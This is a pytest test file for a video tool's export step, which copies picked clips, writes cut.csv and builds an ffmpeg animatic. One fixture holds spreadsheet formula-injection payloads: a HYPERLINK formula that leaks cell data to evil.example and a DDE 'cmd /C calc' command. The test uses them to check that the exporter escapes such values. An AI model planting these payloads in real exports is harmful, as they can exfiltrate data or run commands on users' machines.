"""The export: chosen clips copied in storyboard order, cut.csv, and the animatic."""

from __future__ import annotations

import csv
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from runner.export import ExportResult, clip_name, export_cut, find_ffmpeg
from runner.store import Store
from tests.review.conftest import SIM_CLIP, Batch, MakeBatch

FFMPEG = find_ffmpeg()
FFPROBE = shutil.which("ffprobe")
needs_ffmpeg = pytest.mark.skipif(FFMPEG is None or FFPROBE is None, reason="needs ffmpeg/ffprobe")


def duration(path: Path) -> float:
    assert FFPROBE is not None
    out = subprocess.run(
        [FFPROBE, "-v", "error", "-show_entries", "format=duration", "-of", "csv=p=0", str(path)],
        capture_output=True,
        text=True,
        check=True,
    )
    return float(out.stdout.strip())


def video_size(path: Path) -> str:
    assert FFPROBE is not None
    out = subprocess.run(
        [
            FFPROBE,
            "-v",
            "error",
            "-select_streams",
            "v:0",
            "-show_entries",
            "stream=width,height",
            "-of",
            "csv=p=0:s=x",
            str(path),
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    return out.stdout.strip()


def rows(to: Path) -> list[dict[str, str]]:
    with (to / "cut.csv").open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def export(
    batch: Batch, to: Path, *, ffmpeg: str | None = None, animatic: bool = True
) -> ExportResult:
    with batch.store() as store:
        return export_cut(batch.manifest, store, to, ffmpeg=ffmpeg, animatic=animatic)


@pytest.mark.parametrize(
    ("position", "count", "name"),
    [(1, 3, "01-s.mp4"), (9, 99, "09-s.mp4"), (7, 100, "007-s.mp4"), (100, 100, "100-s.mp4")],
)
def test_clip_names_count_from_01_with_at_least_two_digits(
    position: int, count: int, name: str
) -> None:
    """NN starts at 01 and widens only when the storyboard has 100 shots or more."""
    assert clip_name(position, count, "s") == name


def test_every_shot_with_a_finished_take_is_copied_in_storyboard_order(
    batch: Batch, tmp_path: Path
) -> None:
    """Each shot's clip is copied as NN-<shot-id>.mp4, NN following the manifest's order."""
    for shot, take in (("s01-wide", 1), ("s02-hero", 1), ("s03-turn", 1)):
        batch.done(shot, take)
    to = tmp_path / "cut"
    export(batch, to, animatic=False)
    assert sorted(p.name for p in to.glob("*.mp4")) == [
        "01-s01-wide.mp4",
        "02-s02-hero.mp4",
        "03-s03-turn.mp4",
    ]
    assert (to / "02-s02-hero.mp4").read_bytes() == SIM_CLIP.read_bytes()


def test_the_picked_take_is_exported(batch: Batch, tmp_path: Path) -> None:
    """With a pick, that take is copied, not the first finished one."""
    batch.done("s02-hero", 1)
    picked = batch.done("s02-hero", 3)
    picked.write_bytes(picked.read_bytes() + b"take three")  # tell the copies apart
    with Store.open(batch.out) as store:
        store.set_verdict("s02-hero", 3, "picked")
    to = tmp_path / "cut"
    export(batch, to, animatic=False)
    assert (to / "02-s02-hero.mp4").read_bytes().endswith(b"take three")
    assert rows(to)[1]["take"] == "3"


def test_a_pick_is_not_exported_for_an_edited_shots_new_take(batch: Batch, tmp_path: Path) -> None:
    """Take 3 picked, then rendered again after an edit: its new clip is not taken as picked."""
    batch.done("s02-hero", 1)
    clip = batch.done("s02-hero", 3)
    with Store.open(batch.out) as store:
        store.set_verdict("s02-hero", 3, "picked")
        (job,) = store.bind_jobs(None, [("s02-hero", 3, "f" * 64, 1)]).values()
        render = store.renders()[("f" * 64, 1)]
        render.state, render.sha256, render.bytes = "done", "0" * 64, clip.stat().st_size
        store.update_render(None, render)
        stat = clip.stat()
        store.record_delivery(
            None,
            job,
            file="s02-hero/take-3.mp4",
            size=stat.st_size,
            mtime_ns=stat.st_mtime_ns,
            sha256="0" * 64,
        )
    to = tmp_path / "cut"
    export(batch, to, animatic=False)
    assert rows(to)[1]["take"] == "1"


def test_without_a_pick_the_first_finished_take_is_exported(batch: Batch, tmp_path: Path) -> None:
    """Without a pick, the lowest-numbered finished take is copied."""
    batch.failed("s02-hero", 1, "boom")
    batch.done("s02-hero", 2)
    batch.done("s02-hero", 3)
    to = tmp_path / "cut"
    export(batch, to, animatic=False)
    assert rows(to)[1]["take"] == "2"


def test_a_rejected_take_is_passed_over(batch: Batch, tmp_path: Path) -> None:
    """Without a pick, a rejected finished take is skipped for the next finished one."""
    batch.done("s02-hero", 1)
    batch.done("s02-hero", 2)
    with Store.open(batch.out) as store:
        store.set_verdict("s02-hero", 1, "rejected")
    to = tmp_path / "cut"
    export(batch, to, animatic=False)
    assert rows(to)[1]["take"] == "2"


def test_cut_list_has_the_columns_and_one_row_per_shot(batch: Batch, tmp_path: Path) -> None:
    """cut.csv has index,shot,take,file,source,seconds,prompt,provider,model and a row for
    every shot."""
    batch.done("s01-wide", 1)
    batch.done("s02-hero", 2)
    to = tmp_path / "cut"
    export(batch, to, animatic=False)
    header = (to / "cut.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header == "index,shot,take,file,source,seconds,prompt,provider,model"
    first = rows(to)[0]
    assert first == {
        "index": "1",
        "shot": "s01-wide",
        "take": "1",
        "file": "01-s01-wide.mp4",
        "source": str((batch.out / "s01-wide/take-1.mp4").absolute()),
        "seconds": "4",
        "prompt": "Ocean waves rolling onto a sandy beach at golden hour",
        "provider": "gateway",
        "model": "omni-fast",
    }


FORMULA_PROMPTS = """\
version: 1
defaults: {seconds: 4}
shots:
  - {id: s01, prompt: '=HYPERLINK("http://evil.example/?q="&A1, "click")'}
  - {id: s02, prompt: "+1+2", model: "=cmd|' /C calc'!A0"}
  - {id: s03, prompt: "-2+3"}
  - {id: s04, prompt: "@SUM(1,2)"}
  - {id: s05, prompt: "\\t=1+1"}
  - {id: s06, prompt: "\\r=1+1"}
  - {id: s07, prompt: "waves = foam, 1+1"}
"""


def test_cut_list_writes_prompts_that_start_like_a_formula_as_text(
    make_batch: MakeBatch, tmp_path: Path
) -> None:
    """A prompt (or model) starting with =, +, -, @, tab or CR gets a leading quote; others
    are as is."""
    batch = make_batch(FORMULA_PROMPTS)
    for shot in batch.manifest.shots:
        batch.done(shot.id, 1)
    to = tmp_path / "cut"
    export(batch, to, animatic=False)
    assert [row["prompt"] for row in rows(to)] == [
        '\'=HYPERLINK("http://evil.example/?q="&A1, "click")',
        "'+1+2",
        "'-2+3",
        "'@SUM(1,2)",
        "'\t=1+1",
        "'\r=1+1",
        "waves = foam, 1+1",
    ]
    models = [row["model"] for row in rows(to)]
    assert models == ["omni-fast", "'=cmd|' /C calc'!A0", *["omni-fast"] * 5]


def test_a_shot_without_a_finished_take_is_listed_with_an_empty_file(
    batch: Batch, tmp_path: Path
) -> None:
    """A shot with no finished take keeps its row, with no take and no file, and a reason."""
    batch.done("s01-wide", 1)
    batch.done("s02-hero", 1)
    batch.failed("s03-turn", 1, "upstream_error: boom")
    to = tmp_path / "cut"
    result = export(batch, to, animatic=False)
    row = rows(to)[2]
    assert (row["index"], row["shot"], row["take"], row["file"], row["source"]) == (
        "3",
        "s03-turn",
        "",
        "",
        "",
    )
    assert not (to / "03-s03-turn.mp4").exists()
    (missing,) = result.missing
    assert missing.problem == (
        "no finished take (take 1 failed: upstream_error: boom; take 2 pending)"
    )


def test_a_done_take_whose_clip_is_gone_is_not_exported(batch: Batch, tmp_path: Path) -> None:
    """A done take whose file was deleted cannot be copied; the shot is reported missing."""
    batch.done("s01-wide", 1).unlink()
    to = tmp_path / "cut"
    result = export(batch, to, animatic=False)
    missing = result.missing[0]
    assert missing.shot.id == "s01-wide"
    assert "clip file missing for take 1" in str(missing.problem)


def test_without_ffmpeg_the_animatic_is_skipped_with_a_note(batch: Batch, tmp_path: Path) -> None:
    """With no ffmpeg the clips and cut list are still written; the note says why no animatic."""
    batch.done("s01-wide", 1)
    to = tmp_path / "cut"
    result = export(batch, to, ffmpeg=None)
    assert not (to / "animatic.mp4").exists()
    assert result.animatic is None
    assert "ffmpeg not found" in result.animatic_note
    assert (to / "01-s01-wide.mp4").is_file()


@needs_ffmpeg
def test_animatic_joins_the_exported_clips_in_order(batch: Batch, tmp_path: Path) -> None:
    """animatic.mp4 is the exported clips joined: as long as all of them together."""
    batch.done("s01-wide", 1)
    batch.done("s02-hero", 1)
    batch.done("s03-turn", 2)
    to = tmp_path / "cut"
    result = export(batch, to, ffmpeg=FFMPEG)
    assert result.animatic == to / "animatic.mp4"
    expected = sum(duration(p) for p in sorted(to.glob("0*.mp4")))
    assert duration(to / "animatic.mp4") == pytest.approx(expected, abs=0.3)


@needs_ffmpeg
def test_clips_that_differ_are_re_encoded_into_one_animatic(batch: Batch, tmp_path: Path) -> None:
    """Clips of different sizes are joined by re-encoding, in the first clip's frame size."""
    assert FFMPEG is not None
    other = tmp_path / "other.mp4"
    subprocess.run(
        [
            FFMPEG,
            "-v",
            "error",
            "-f",
            "lavfi",
            "-i",
            "testsrc=size=320x240:rate=25:duration=1",
            "-c:v",
            "libx264",
            "-pix_fmt",
            "yuv420p",
            str(other),
        ],
        check=True,
    )
    batch.done("s01-wide", 1)
    batch.done("s02-hero", 1, clip=other)
    to = tmp_path / "cut"
    result = export(batch, to, ffmpeg=FFMPEG)
    assert result.animatic is not None
    assert video_size(to / "animatic.mp4") == "256x144"
    assert duration(to / "animatic.mp4") == pytest.approx(3.0, abs=0.3)


def test_ffmpeg_is_not_found_without_the_extra_or_path(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """With neither imageio-ffmpeg nor ffmpeg on PATH, there is no ffmpeg."""
    monkeypatch.setitem(sys.modules, "imageio_ffmpeg", None)  # makes the import fail
    monkeypatch.setenv("PATH", str(tmp_path))
    assert find_ffmpeg() is None


def test_ffmpeg_on_path_is_used_without_the_extra(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Without imageio-ffmpeg, an ffmpeg on PATH is found."""
    fake = tmp_path / "ffmpeg"
    fake.write_text("#!/bin/sh\n", encoding="utf-8")
    fake.chmod(0o755)
    monkeypatch.setitem(sys.modules, "imageio_ffmpeg", None)
    monkeypatch.setenv("PATH", str(tmp_path))
    assert find_ffmpeg() == str(fake)
